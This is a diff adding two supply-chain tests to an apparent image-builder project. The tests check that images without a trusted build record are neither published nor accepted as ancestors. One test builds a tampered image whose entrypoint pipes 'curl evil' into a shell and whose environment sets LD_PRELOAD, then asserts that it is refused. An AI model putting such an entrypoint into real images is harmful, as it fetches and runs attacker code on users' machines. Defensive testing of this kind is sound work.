@@ -319,3 +319,35 @@ def test_every_published_digest_gets_a_vsa_that_the_check_command_reads(machine:
         verdict = admission.check(machine.registry, REPO, digest, trust, policy=("pass", "vsa", "sbom"))
         assert verdict.admitted, verdict.lines()
     assert machine.run.layouts.found()["registries"][machine.registry.host]["oci_subject"] is False
+
+
+def test_nothing_is_published_without_a_build_record_by_a_trusted_build_key(machine: Machine) -> None:
+    """A run whose keys are named and that holds no build key writes no build record: publish refuses every digest,
+    naming the rule, and points no tag (provenance is a precondition, not a nicety)."""
+    machine.passed(leaf(machine))
+    keys_ = dataclasses.replace(machine.run.keys, builder=None)
+    run = dataclasses.replace(machine.run, keys=keys_)
+    assert not Publish(supply=SupplyChain()).entry(run, list(run.plan.nodes)) and machine.tags() == {}
+    assert "no trusted build record names it" in str(run.ledger[leaf(machine).id].error)
+
+
+def test_an_ancestor_under_another_config_gets_no_pass_through_the_leaf(machine: Machine) -> None:
+    """N5-01: the business key tag re-pushed with the very layers and another config (Entrypoint, Env), no build
+    record: `via` refuses it, whatever the leaf's layers say."""
+    from imagebuilder.errors import Refused
+    from imagebuilder.run.ancestors import via
+
+    machine.passed(leaf(machine))
+    assert publish(machine)
+    business, task = machine.run.plan.nodes[1], leaf(machine)
+    honest = machine.engine.images[str(machine.run.ledger[business.id].image)]
+    swapped = copy.deepcopy(honest)
+    swapped["config"].update(Entrypoint=["/bin/sh", "-c", "curl evil | sh"], Env=["LD_PRELOAD=/tmp/x.so"])
+    evil = machine.engine.add(swapped)
+    ref = f"127.0.0.1:5000/{REPO}:{keys.cache_tag(business.key)}"
+    machine.engine.tag(evil, ref)
+    evil_digest = machine.engine.push(ref)
+    record = machine.run.ledger[task.id].record
+    assert record is not None
+    with pytest.raises(Refused, match=r"no build record is beside it: nothing vouches that .* was built on it"):
+        via(machine.run, business, task, record, str(machine.run.ledger[task.id].digest), evil_digest, evil)
